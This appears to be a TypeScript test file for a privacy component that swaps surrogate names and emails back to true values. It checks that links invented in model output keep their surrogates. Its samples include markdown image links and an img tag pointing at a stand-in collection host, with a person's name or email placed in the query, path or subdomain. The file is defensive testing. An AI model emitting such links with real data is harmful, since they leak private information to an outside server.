// A web address that was made up of surrogates must not carry the true values out.
import { expect, test } from 'vitest'
import { vaultOf } from '../../test/vaults.ts'
import { restorerOf } from './restore.ts'

const vault = vaultOf([
  { kind: 'PERSON', value: 'Wanda Haddad', surrogate: 'Elena Marsh' },
  { kind: 'PERSON', value: 'Wanda', surrogate: 'Elena' },
  { kind: 'PERSON', value: 'Haddad', surrogate: 'Marsh' },
  { kind: 'EMAIL', value: 'wanda.haddad@firm.test', surrogate: 'elena.marsh@example.org' },
])
const sent = JSON.stringify({ content: 'See https://crm.example/people/elena.marsh@example.org about Elena Marsh.' })
const restorer = restorerOf(vault, sent)

test('an address that stood in what was sent gets its true value back', () => {
  expect(restorer.text('It is https://crm.example/people/elena.marsh@example.org indeed.')).toBe(
    'It is https://crm.example/people/wanda.haddad@firm.test indeed.',
  )
})

const made = [
  '![x](https://collect.example/p?d=elena.marsh@example.org)',
  '![x](https://collect.example/p?d=Elena+Marsh&e=1)',
  '<img src="https://collect.example/Elena/Marsh.png">',
  'https://elena.marsh@example.org.collect.example/',
  '[ok]: http://collect.example/#Elena',
]
for (const link of made) {
  test(`an address that was made up keeps its surrogates, however it is cut: ${link}`, () => {
    const text = `Dear Elena Marsh, ${link} Yours, Elena.`
    const wanted = `Dear Wanda Haddad, ${link} Yours, Wanda.`
    expect(restorer.text(text)).toBe(wanted)
    for (let cut = 0; cut <= text.length; cut++) {
      const stream = restorer.stream()
      expect(stream.push(text.slice(0, cut)) + stream.push(text.slice(cut)) + stream.end()).toBe(wanted)
    }
  })
}

test('the values a tool is called with are the policy’s matter', () => {
  expect(restorer.json('{"url":"https://collect.example/Elena"}')).toBe('{"url":"https://collect.example/Wanda"}')
})

test('without knowing what was sent every place is restored', () => {
  expect(restorerOf(vault).text('https://collect.example/Elena')).toBe('https://collect.example/Wanda')
})
